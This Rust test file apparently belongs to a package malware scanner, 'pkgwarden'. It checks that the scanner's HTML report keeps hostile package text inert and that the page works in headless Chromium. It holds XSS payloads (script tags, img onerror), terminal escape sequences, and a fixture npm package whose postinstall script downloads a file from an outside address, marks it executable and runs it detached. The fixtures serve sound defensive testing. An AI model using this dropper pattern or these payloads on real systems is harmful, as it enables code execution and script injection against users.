//! The HTML triage page. A package whose name, version, file names, code and the paths
//! its code writes carry markup and terminal escapes is scanned beside a dropper, a clean
//! package and a broken archive; its text must stay text: inert in the file (checked
//! here without a browser) and in headless Chromium, where the page is also driven as a
//! reviewer would (sort, filter, open a package). Without Chromium the browser test says
//! it was skipped; with one, any failure of the browser or the page fails it.

use crate::common::chromium;
use crate::common::*;
use serde_json::Value;
use std::io::Write;
use std::path::PathBuf;
use std::process::Command;
use std::sync::OnceLock;

/// The payloads package text carries.
const SCRIPT: &str = "<script>window.__pwned=1</script>";
const IMG: &str = "\"><img src=x onerror=window.__pwned=1>";
const CONTROLS: &str = "\u{2028}\x1b[2J\x1b]0;owned\x07";

/// The harness the browser test inserts into its copy of the page.
const HARNESS: &str = include_str!("../support/html-harness.js");

/// An npm tarball whose postinstall script (named with markup) downloads from an
/// address full of markup and control characters, writes into the home folder under a
/// name with markup, and starts what it wrote detached: malicious, and every finding's
/// file, code line or message carries a payload.
fn hostile_npm() -> Vec<u8> {
    let script = format!("i{IMG}</textarea>.js");
    let manifest = serde_json::json!({
        "name": format!("{SCRIPT}</textarea>{CONTROLS}"),
        "version": format!("1.0.0{IMG}"),
        "scripts": { "postinstall": format!("node '{script}'") },
    });
    let install = format!(
        "const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const {{ spawn }} = require('child_process');

const target = path.join(os.homedir(), '.cache</script>{IMG}');
https.get('http://203.0.113.9/</script>{SCRIPT}{IMG}{CONTROLS}', (res) => {{
  const file = fs.createWriteStream(target);
  res.pipe(file);
  file.on('finish', () => {{
    file.close();
    fs.chmodSync(target, 0o755);
    spawn(target, [], {{ detached: true, stdio: 'ignore' }}).unref();
  }});
}});
"
    );
    gzip(&tar(
        &[
            ("package.json".into(), manifest.to_string().into_bytes()),
            (script, install.into_bytes()),
        ],
        "package/",
    ))
}

/// The scanned folder and the page, made once: `--format html` to stdout and
/// `--html FILE` in the same run, which must agree.
fn page() -> &'static (PathBuf, String) {
    static PAGE: OnceLock<(PathBuf, String)> = OnceLock::new();
    PAGE.get_or_init(|| {
        let dir = std::env::temp_dir().join(format!("pkgwarden-html-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let input = dir.join("in");
        std::fs::create_dir_all(&input).unwrap();
        let write = |name: &str, bytes: Vec<u8>| std::fs::write(input.join(name), bytes).unwrap();
        write(&format!("evil{IMG}{CONTROLS}.tgz"), hostile_npm());
        let sdist =
            |fixture_dir: &str, prefix: &str| gzip(&tar(&files(&fixture(fixture_dir)), prefix));
        write(
            "libpeshnx-0.1.tar.gz",
            sdist("pypi/libpeshnx-sdist", "libpeshnx-0.1/"),
        );
        write(
            "fastcodec-2.3.0.tar.gz",
            sdist("pypi/cext-build", "fastcodec-2.3.0/"),
        );
        write("corrupt.tar.gz", gzip(b"x")[..12].to_vec());
        let file = dir.join("report.html");
        let out = Command::new(env!("CARGO_BIN_EXE_pkgwarden"))
            .args(["scan", "--format", "html", "--html"])
            .arg(&file)
            .arg(&input)
            .output()
            .unwrap();
        assert_eq!(
            out.status.code(),
            Some(1),
            "a malicious package fails the gate"
        );
        let html = String::from_utf8(out.stdout).unwrap();
        assert_eq!(std::fs::read_to_string(&file).unwrap(), html);
        (dir, html)
    })
}

/// The text of the page's `n`th `<script>` element.
fn script_text(html: &str, n: usize) -> &str {
    let start = html.match_indices("<script").nth(n).unwrap().0;
    let body = start + html[start..].find('>').unwrap() + 1;
    &html[body..body + html[body..].find("</script>").unwrap()]
}

/// The page's data, parsed as its script parses it.
fn data(html: &str) -> Value {
    serde_json::from_str(script_text(html, 0)).unwrap()
}

#[test]
fn hostile_package_text_stays_inert_in_the_file() {
    let (_, html) = page();
    let lower = html.to_ascii_lowercase();
    // The data block and the page's script, and nothing an attacker added.
    assert_eq!(lower.matches("<script").count(), 2, "{html}");
    assert_eq!(lower.matches("</script").count(), 2);
    for raw in [
        "<img",
        "</textarea",
        "<textarea",
        "\x1b",
        "\x07",
        "\u{2028}",
    ] {
        assert!(!lower.contains(raw), "{raw:?} is in the page raw");
    }
    let block = script_text(html, 0);
    assert!(!block.contains(['<', '>', '&', '\u{2029}']), "{block}");

    // The payloads did reach the page, as data: detection carried them into names,
    // file names, code lines and messages, with control characters made visible.
    let data = data(html);
    let packages = data["packages"].as_array().unwrap();
    let evil = packages
        .iter()
        .find(|p| p["name"].as_str().unwrap().contains(SCRIPT))
        .expect("the hostile package is listed");
    assert_eq!(evil["verdict"], "malicious");
    assert!(evil["name"]
        .as_str()
        .unwrap()
        .contains("\\u{2028}\\x1b[2J\\x1b]0;owned\\x07"));
    assert!(evil["version"].as_str().unwrap().contains(IMG));
    assert!(evil["path"].as_str().unwrap().contains(IMG));
    let findings = evil["detail"]["findings"].as_array().unwrap();
    assert!(findings
        .iter()
        .any(|f| f["at"].as_str().unwrap().contains("</textarea>")));
    let code: Vec<String> = findings
        .iter()
        .filter_map(|f| f["code"].as_array())
        .map(|parts| parts.iter().map(|s| s.as_str().unwrap()).collect())
        .collect();
    assert!(
        code.iter()
            .any(|c| c.contains(&format!("/</script>{SCRIPT}{IMG}\\u{{2028}}\\x1b[2J"))),
        "{code:?}"
    );
    assert!(findings
        .iter()
        .any(|f| f["message"].as_str().unwrap().contains(IMG)));
    assert!(evil["detail"]["story"][0]
        .as_str()
        .unwrap()
        .starts_with("at install time: "));

    // The CSP allows exactly the page's own script and style.
    let csp_start = html.find("Content-Security-Policy\" content=\"").unwrap();
    let csp = &html[csp_start..csp_start + html[csp_start..].find("\">").unwrap()];
    let style_start = html.find("<style>").unwrap() + "<style>".len();
    let style = &html[style_start..style_start + html[style_start..].find("</style>").unwrap()];
    assert!(csp.contains("default-src 'none'"), "{csp}");
    assert!(csp.contains(&format!(
        "script-src {};",
        pkgwarden::report::html::csp_hash(script_text(html, 1))
    )));
    assert!(csp.contains(&format!(
        "style-src {};",
        pkgwarden::report::html::csp_hash(style)
    )));
    assert_eq!(lower.matches("<style").count(), 1);
}

#[test]
fn the_page_works_and_runs_nothing_else_in_chromium() {
    let Some(browser) = chromium::find() else {
        // Written past the test harness's capture, so the skip shows in `cargo test`.
        let _ = writeln!(
            std::io::stderr(),
            "html_report: skipped: no Chromium found (apt-get install chromium)"
        );
        return;
    };
    let (dir, html) = page();
    let packages = data(html)["packages"].as_array().unwrap().clone();

    // The page as shipped: its own script runs to the end with nothing on the console
    // (errors and CSP violations are console messages).
    let shipped = dir.join("report.html");
    let run = chromium::load(&browser, &chromium::file_url(&shipped), &dir.join("plain"));
    assert!(run.dom.contains("data-ready=\"true\""), "{}", run.dom);
    assert!(run.console().is_empty(), "{:#?}", run.console());

    // A copy with the harness, allowed by adding its hash to the copy's CSP. The harness
    // runs before the page's script, so it sees every error the page raises.
    assert!(
        !HARNESS.contains("</script"),
        "the harness would end its own element"
    );
    let copy = dir.join("harnessed.html");
    let csp_script = "script-src ";
    let harnessed = html
        .replacen(
            csp_script,
            &format!(
                "{csp_script}{} ",
                pkgwarden::report::html::csp_hash(HARNESS)
            ),
            1,
        )
        .replacen(
            "<meta name=\"referrer\"",
            &format!("<script>{HARNESS}</script>\n<meta name=\"referrer\""),
            1,
        );
    std::fs::write(&copy, harnessed).unwrap();
    let run = chromium::load(&browser, &chromium::file_url(&copy), &dir.join("harness"));
    assert!(
        run.log.contains("pkgwarden-harness-alive"),
        "the console does not reach the log, so it cannot be checked:\n{}",
        run.log
    );
    let result = harness_result(&run.dom);
    assert_eq!(result["errors"], serde_json::json!([]), "{result:#}");
    assert_eq!(result["violations"], serde_json::json!([]), "{result:#}");
    let c = &result["checks"];
    assert_eq!(c["ready"], true, "{c:#}");
    assert_eq!(c["rows"], packages.len(), "{c:#}");
    assert_eq!(c["open_on_load"], serde_json::json!([]));
    let verdicts: Vec<&str> = packages
        .iter()
        .map(|p| p["verdict"].as_str().unwrap())
        .collect();
    assert_eq!(
        verdicts,
        ["malicious", "malicious", "error", "clean"],
        "the default order is malicious, suspicious, error, clean"
    );
    assert_eq!(c["default_verdicts"], serde_json::json!(verdicts));
    let names: Vec<&Value> = packages.iter().map(|p| &p["name"]).collect();
    assert_eq!(
        c["names"],
        serde_json::json!(names),
        "names are shown as text"
    );
    let scores = |key: &str| -> Vec<u32> {
        c[key]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s.as_str().unwrap().parse().unwrap_or(0))
            .collect()
    };
    let first = scores("scores_first_click");
    assert!(first.windows(2).all(|w| w[0] >= w[1]), "{first:?}");
    let second = scores("scores_second_click");
    assert!(second.windows(2).all(|w| w[0] <= w[1]), "{second:?}");
    assert_ne!(first, second);
    assert_eq!(c["filtered_names"], serde_json::json!(["libpeshnx"]));
    let without_clean: Vec<&str> = c["verdicts_without_clean"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(without_clean.len(), packages.len() - 1);
    assert!(!without_clean.contains(&"clean"));
    assert_eq!(c["visible_after_recheck"], packages.len());
    assert_eq!(c["target_expanded"], "true");
    assert_eq!(c["detail_visible"], true);
    let story = c["story"][0].as_str().unwrap_or_default();
    assert!(story.starts_with("at install time: downloads"), "{c:#}");
    assert!(c["marks"].as_u64().unwrap() > 0, "code lines are marked");
    let target = c["target_id"].as_str().unwrap();
    assert_eq!(
        c["hash"],
        format!("#pkg={target}"),
        "opening a row links to it"
    );
    // The hostile text is on the page, as text, and none of it ran or became markup.
    assert_eq!(c["hostile_text_shown"], true);
    assert_eq!(c["pwned"], "undefined");
    assert_eq!(c["injected_elements"], 0);
    assert_eq!(
        c["scripts"], 3,
        "the data, the harness and the page's script"
    );

    // A deep link opens its package on load.
    let url = format!("{}#pkg={target}", chromium::file_url(&copy));
    let run = chromium::load(&browser, &url, &dir.join("deep-link"));
    let result = harness_result(&run.dom);
    assert_eq!(
        result["checks"]["open_on_load"],
        serde_json::json!([target])
    );
    assert_eq!(result["errors"], serde_json::json!([]), "{result:#}");
}

/// The harness's JSON from a dumped DOM.
fn harness_result(dom: &str) -> Value {
    let text = chromium::text_of(dom, "pre", "harness-result")
        .unwrap_or_else(|| panic!("the harness wrote no result:\n{dom}"));
    serde_json::from_str(&text).unwrap()
}

#[test]
fn a_page_that_cannot_be_written_leaves_the_scan_incomplete() {
    let (dir, _) = page();
    let clean = dir.join("clean");
    std::fs::create_dir_all(&clean).unwrap();
    std::fs::write(
        clean.join("fastcodec-2.3.0.tar.gz"),
        gzip(&tar(
            &files(&fixture("pypi/cext-build")),
            "fastcodec-2.3.0/",
        )),
    )
    .unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_pkgwarden"))
        .args(["scan", "--format", "json", "--html"])
        .arg(dir.join("no-such-folder").join("report.html"))
        .arg(&clean)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("cannot write the HTML report"), "{stderr}");
    // The chosen format is still written.
    let json: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["packages"][0]["verdict"], "clean");
}
